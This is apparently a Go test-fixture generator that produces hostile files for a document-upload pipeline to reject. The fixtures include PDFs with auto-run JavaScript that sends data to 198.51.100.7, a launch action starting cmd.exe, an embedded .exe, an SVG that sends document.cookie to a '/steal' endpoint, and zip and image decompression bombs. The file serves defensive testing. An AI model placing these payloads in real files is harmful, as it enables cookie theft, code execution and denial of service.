package corpus

import (
	"archive/zip"
	"bytes"
	"compress/flate"
	"encoding/binary"
	"fmt"
	"hash/crc32"
	"strings"
	"sync"
)

// hostileKind is a file the pipeline must refuse (interfaces.md: accepted
// is false, with an error finding), and why.
type hostileKind struct {
	name   string
	ext    string
	format string
	reason string
	make   func(g *genCtx, fonts *Fonts) []byte
}

// hostileKinds are the files of the acceptance criteria and a few
// relatives. Each corpus holds every one of them once.
var hostileKinds = []hostileKind{
	{"zero_bytes", "pdf", "empty", "empty file", func(*genCtx, *Fonts) []byte { return []byte{} }},
	{"zero_bytes_jpeg", "jpg", "empty", "empty file", func(*genCtx, *Fonts) []byte { return []byte{} }},
	{"truncated_pdf", "pdf", "pdf", "truncated PDF (no cross-reference table, no %%EOF)", truncatedPDF(0.4, 0.7)},
	{"truncated_pdf_header", "pdf", "pdf", "truncated PDF (header only)", truncatedPDF(0, 0)},
	{"pdf_javascript_openaction", "pdf", "pdf", "active content: JavaScript run on opening (/OpenAction /JS)", jsOpenAction},
	{"pdf_javascript_names", "pdf", "pdf", "active content: document-level JavaScript (/Names /JavaScript)", jsNames},
	{"pdf_launch_action", "pdf", "pdf", "active content: launch action starting a program", launchAction},
	{"pdf_embedded_file", "pdf", "pdf", "embedded file (/EmbeddedFiles) carrying an executable", embeddedFile},
	{"elf_named_pdf", "pdf", "bin", "an ELF executable named .pdf", elf},
	{"pe_named_pdf", "pdf", "bin", "a Windows PE executable named .pdf", pe},
	{"html_named_pdf", "pdf", "txt", "HTML named .pdf", htmlAsPDF},
	{"png_pixel_bomb", "png", "png", "PNG declaring 50000 × 50000 pixels", pngBomb},
	{"jpeg_pixel_bomb", "jpg", "jpeg", "JPEG declaring 65500 × 65500 pixels", jpegBomb},
	{"zip_bomb", "zip", "zip", "zip bomb: 1 GiB of zeros in 1 MB, and no PDF/JPEG/PNG", zipBomb},
	{"zip_bomb_named_pdf", "pdf", "zip", "zip bomb named .pdf", zipBomb},
	{"svg_script", "svg", "svg", "SVG with <script>", svgScript},
	{"svg_script_named_png", "png", "svg", "SVG with <script> named .png", svgScript},
	{"pdf_10000_pages_shared", "pdf", "pdf", "10,000 pages (one page object referenced 10,000 times)", pages10000(true)},
	{"pdf_10000_pages", "pdf", "pdf", "10,000 pages", pages10000(false)},
	{"pdf_encrypted_rc4", "pdf", "pdf", "encrypted PDF (RC4, empty user password)", encryptedPDF("")},
	{"pdf_encrypted_password", "pdf", "pdf", "encrypted PDF (RC4, user password)", encryptedPDF("geheim")},
	{"docx", "docx", "zip", "Word document: not PDF, JPEG or PNG", docx},
	{"text_file", "txt", "txt", "plain text: not PDF, JPEG or PNG", textFile},
}

// benign fills g with an ordinary document to carry the hostile parts.
func benign(g *genCtx) {
	switch g.r.IntN(3) {
	case 0:
		tmplPayslip(g)
	case 1:
		tmplOther(g)
	default:
		tmplEmployment(g)
	}
}

func rawWith(g *genCtx, opt rawOptions) []byte {
	benign(g)
	opt.noInfo = true
	b, _ := renderRaw(&g.b.d, randomStyle(g.r, false), g.r, opt)
	return b
}

func truncatedPDF(from, to float64) func(*genCtx, *Fonts) []byte {
	return func(g *genCtx, fonts *Fonts) []byte {
		benign(g)
		var b []byte
		if fonts != nil {
			b, _, _ = renderGopdf(&g.b.d, randomStyle(g.r, false), fonts)
		}
		if b == nil {
			b, _ = renderRaw(&g.b.d, randomStyle(g.r, false), g.r, rawOptions{})
		}
		if to == 0 {
			return b[:min(len(b), 64)]
		}
		return b[:int(float64(len(b))*(from+g.r.Float64()*(to-from)))]
	}
}

func jsOpenAction(g *genCtx, _ *Fonts) []byte {
	return rawWith(g, rawOptions{catalogExtra: func(p *rawPDF) string {
		return "/OpenAction << /S /JavaScript /JS (app.alert\\('Bitte aktivieren Sie Inhalte, um das Dokument anzuzeigen.'\\); this.submitForm\\('http://198.51.100.7/c'\\);) >>"
	}})
}

func jsNames(g *genCtx, _ *Fonts) []byte {
	return rawWith(g, rawOptions{catalogExtra: func(p *rawPDF) string {
		js := p.stream("", []byte("var x = util.printf('%s', this.info.Title); app.launchURL('http://198.51.100.7/?' + x, true);"))
		action := p.add(fmt.Sprintf("<< /S /JavaScript /JS %d 0 R >>", js))
		return fmt.Sprintf("/Names << /JavaScript << /Names [(init) %d 0 R] >> >>", action)
	}})
}

func launchAction(g *genCtx, _ *Fonts) []byte {
	return rawWith(g, rawOptions{catalogExtra: func(p *rawPDF) string {
		return "/OpenAction << /S /Launch /Win << /F (cmd.exe) /P (/c start calc.exe) >> /F (/bin/sh) >>"
	}})
}

func embeddedFile(g *genCtx, _ *Fonts) []byte {
	return rawWith(g, rawOptions{catalogExtra: func(p *rawPDF) string {
		ef := p.stream("/Type /EmbeddedFile /Subtype /application#2Fx-msdownload", pe(g, nil))
		spec := p.add(fmt.Sprintf("<< /Type /Filespec /F (Rechnung.pdf.exe) /UF (Rechnung.pdf.exe) /EF << /F %d 0 R >> >>", ef))
		return fmt.Sprintf("/Names << /EmbeddedFiles << /Names [(Rechnung.pdf.exe) %d 0 R] >> >>", spec)
	}})
}

// elf is the start of a 64-bit Linux executable.
func elf(g *genCtx, _ *Fonts) []byte {
	b := make([]byte, 4096)
	copy(b, []byte{0x7F, 'E', 'L', 'F', 2, 1, 1, 0})
	binary.LittleEndian.PutUint16(b[16:], 2)    // ET_EXEC
	binary.LittleEndian.PutUint16(b[18:], 0x3E) // x86-64
	binary.LittleEndian.PutUint32(b[20:], 1)
	binary.LittleEndian.PutUint64(b[24:], 0x401000)
	binary.LittleEndian.PutUint64(b[32:], 64)
	binary.LittleEndian.PutUint16(b[52:], 64)
	binary.LittleEndian.PutUint16(b[54:], 56)
	binary.LittleEndian.PutUint16(b[56:], 1)
	for i := 128; i < len(b); i++ {
		b[i] = byte(g.r.IntN(256))
	}
	return b
}

// pe is the start of a Windows executable: MZ header, DOS stub, PE header.
func pe(g *genCtx, _ *Fonts) []byte {
	b := make([]byte, 2048)
	copy(b, "MZ")
	binary.LittleEndian.PutUint32(b[0x3C:], 0x80)
	copy(b[0x40:], "This program cannot be run in DOS mode.\r\r\n$")
	copy(b[0x80:], "PE\x00\x00")
	binary.LittleEndian.PutUint16(b[0x84:], 0x8664)
	binary.LittleEndian.PutUint16(b[0x86:], 1)
	binary.LittleEndian.PutUint16(b[0x94:], 0xF0)
	binary.LittleEndian.PutUint16(b[0x98:], 0x20B)
	for i := 0x200; i < len(b); i++ {
		b[i] = byte(g.r.IntN(256))
	}
	return b
}

func htmlAsPDF(g *genCtx, _ *Fonts) []byte {
	return []byte("<!DOCTYPE html>\n<html lang=\"de\"><head><title>Gehaltsabrechnung</title></head><body>\n" +
		"<h1>Gehaltsabrechnung</h1><p>Bitte klicken Sie <a href=\"http://198.51.100.7/\">hier</a>, um Ihre Abrechnung zu öffnen.</p>\n" +
		"<script>location.href='http://198.51.100.7/'</script></body></html>\n")
}

func pngChunk(typ string, data []byte) []byte {
	var b bytes.Buffer
	binary.Write(&b, binary.BigEndian, uint32(len(data)))
	b.WriteString(typ)
	b.Write(data)
	crc := crc32.NewIEEE()
	crc.Write([]byte(typ))
	crc.Write(data)
	binary.Write(&b, binary.BigEndian, crc.Sum32())
	return b.Bytes()
}

// pngBomb declares 50000 × 50000 RGB pixels (7.5 GB decoded) and carries a
// few rows of zeros.
func pngBomb(*genCtx, *Fonts) []byte {
	var b bytes.Buffer
	b.WriteString("\x89PNG\r\n\x1a\n")
	ihdr := make([]byte, 13)
	binary.BigEndian.PutUint32(ihdr[0:], 50000)
	binary.BigEndian.PutUint32(ihdr[4:], 50000)
	ihdr[8], ihdr[9] = 8, 2 // 8 bit, RGB
	b.Write(pngChunk("IHDR", ihdr))
	var z bytes.Buffer
	w, _ := flate.NewWriter(&z, flate.BestCompression)
	w.Write(make([]byte, (50000*3+1)*64))
	w.Close()
	// zlib wrapper around the deflate data (no checksum needed for the
	// rows that never end).
	idat := append([]byte{0x78, 0xDA}, z.Bytes()...)
	b.Write(pngChunk("IDAT", idat))
	b.Write(pngChunk("IEND", nil))
	return b.Bytes()
}

// jpegBomb is a small JPEG whose frame header claims 65500 × 65500 pixels.
func jpegBomb(g *genCtx, _ *Fonts) []byte {
	b := encodeJPEG(photo(g.r, 16, 16), 80)
	for i := 0; i+9 < len(b); i++ {
		if b[i] == 0xFF && b[i+1] == 0xC0 { // SOF0: length(2) precision(1) height(2) width(2)
			binary.BigEndian.PutUint16(b[i+5:], 65500)
			binary.BigEndian.PutUint16(b[i+7:], 65500)
			break
		}
	}
	return b
}

var (
	bombOnce sync.Once
	bombZip  []byte
)

// zipBomb is one entry of 1 GiB of zeros deflated to about 1 MB. The
// deflate stream is built from one repeated flushed block, so it costs
// milliseconds, not the seconds of compressing a gigabyte.
func zipBomb(*genCtx, *Fonts) []byte {
	bombOnce.Do(func() {
		const mib = 1 << 20
		var buf bytes.Buffer
		w, _ := flate.NewWriter(&buf, flate.BestCompression)
		zero := make([]byte, mib)
		var marks [3]int
		for i := range marks {
			w.Write(zero)
			w.Flush()
			marks[i] = buf.Len()
		}
		w.Close()
		all := buf.Bytes()
		unit := all[marks[1]:marks[2]]
		if !bytes.Equal(unit, all[marks[0]:marks[1]]) {
			panic("corpus: deflate blocks of zeros differ; cannot build the zip bomb cheaply")
		}
		var stream bytes.Buffer
		stream.Write(all[:marks[0]])
		const total = 1024 // MiB
		for i := 1; i < total; i++ {
			stream.Write(unit)
		}
		stream.Write(all[marks[2]:])
		crc := uint32(0)
		for i := 0; i < total; i++ {
			crc = crc32.Update(crc, crc32.IEEETable, zero)
		}
		var z bytes.Buffer
		zw := zip.NewWriter(&z)
		fw, err := zw.CreateRaw(&zip.FileHeader{Name: "Unterlagen/Gehaltsabrechnungen_2025.pdf", Method: zip.Deflate,
			CRC32: crc, CompressedSize64: uint64(stream.Len()), UncompressedSize64: total * mib})
		if err != nil {
			panic(err)
		}
		fw.Write(stream.Bytes())
		zw.Close()
		bombZip = z.Bytes()
	})
	return bombZip
}

func svgScript(g *genCtx, _ *Fonts) []byte {
	return []byte(`<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" width="595" height="842" viewBox="0 0 595 842">
  <script type="text/javascript">fetch('http://198.51.100.7/steal?c=' + document.cookie)</script>
  <rect width="595" height="842" fill="#fff" onload="alert(1)"/>
  <text x="60" y="100" font-size="24">Reisepass</text>
</svg>
`)
}

// pages10000 is a PDF of 10,000 pages with one small content stream, either
// one page object referenced 10,000 times in /Kids (tiny) or 10,000 page
// objects (about 700 KB).
func pages10000(shared bool) func(*genCtx, *Fonts) []byte {
	return func(g *genCtx, _ *Fonts) []byte {
		p := &rawPDF{}
		catalog := p.reserve()
		pages := p.reserve()
		font := p.add("<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>")
		content := p.stream("", []byte("BT /F1 12 Tf 72 770 Td (Seite) Tj ET"))
		page := func() int {
			return p.add(fmt.Sprintf("<< /Type /Page /Parent %d 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 %d 0 R >> >> /Contents %d 0 R >>", pages, font, content))
		}
		kids := make([]string, 10000)
		if shared {
			ref := fmt.Sprintf("%d 0 R", page())
			for i := range kids {
				kids[i] = ref
			}
		} else {
			for i := range kids {
				kids[i] = fmt.Sprintf("%d 0 R", page())
			}
		}
		p.set(pages, fmt.Sprintf("<< /Type /Pages /Kids [%s] /Count 10000 >>", strings.Join(kids, " ")))
		p.set(catalog, fmt.Sprintf("<< /Type /Catalog /Pages %d 0 R >>", pages))
		return p.bytes(fmt.Sprintf("/Root %d 0 R /ID [<%s> <%s>]", catalog, hexID(g.r), hexID(g.r)))
	}
}

func encryptedPDF(user string) func(*genCtx, *Fonts) []byte {
	return func(g *genCtx, _ *Fonts) []byte {
		id := make([]byte, 16)
		for i := range id {
			id[i] = byte(g.r.IntN(256))
		}
		return rawWith(g, rawOptions{encrypt: newRC4Key(user, fmt.Sprintf("owner-%x", id[:4]), id)})
	}
}

func docx(g *genCtx, _ *Fonts) []byte {
	var z bytes.Buffer
	zw := zip.NewWriter(&z)
	add := func(name, body string) {
		w, _ := zw.CreateHeader(&zip.FileHeader{Name: name, Method: zip.Deflate})
		w.Write([]byte(body))
	}
	add("[Content_Types].xml", `<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`)
	add("word/document.xml", `<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Arbeitsvertrag</w:t></w:r></w:p></w:body></w:document>`)
	zw.Close()
	return z.Bytes()
}

func textFile(g *genCtx, _ *Fonts) []byte {
	tmplOther(g)
	var b strings.Builder
	for _, bl := range g.b.d.blocks {
		if bl.text != "" || bl.label != "" {
			b.WriteString(strings.TrimSpace(bl.label + " " + bl.text))
			b.WriteByte('\n')
		}
	}
	return []byte(b.String())
}

// imagePDF wraps a JPEG in a one-page PDF without text: a scan nobody ran
// OCR on.
func imagePDF(g *genCtx, jpegData []byte, w, h int) []byte {
	p := &rawPDF{}
	catalog := p.reserve()
	pages := p.reserve()
	img := p.add(fmt.Sprintf("<< /Type /XObject /Subtype /Image /Width %d /Height %d /ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter /DCTDecode /Length %d >>\nstream\n%s\nendstream",
		w, h, len(jpegData), jpegData))
	content := p.stream("", []byte(fmt.Sprintf("q 500 0 0 %.1f 47 %.1f cm /Im1 Do Q", 500*float64(h)/float64(w), 800-500*float64(h)/float64(w))))
	page := p.add(fmt.Sprintf("<< /Type /Page /Parent %d 0 R /MediaBox [0 0 595 842] /Resources << /XObject << /Im1 %d 0 R >> >> /Contents %d 0 R >>", pages, img, content))
	p.set(pages, fmt.Sprintf("<< /Type /Pages /Kids [%d 0 R] /Count 1 >>", page))
	p.set(catalog, fmt.Sprintf("<< /Type /Catalog /Pages %d 0 R >>", pages))
	return p.bytes(fmt.Sprintf("/Root %d 0 R /ID [<%s> <%s>]", catalog, hexID(g.r), hexID(g.r)))
}
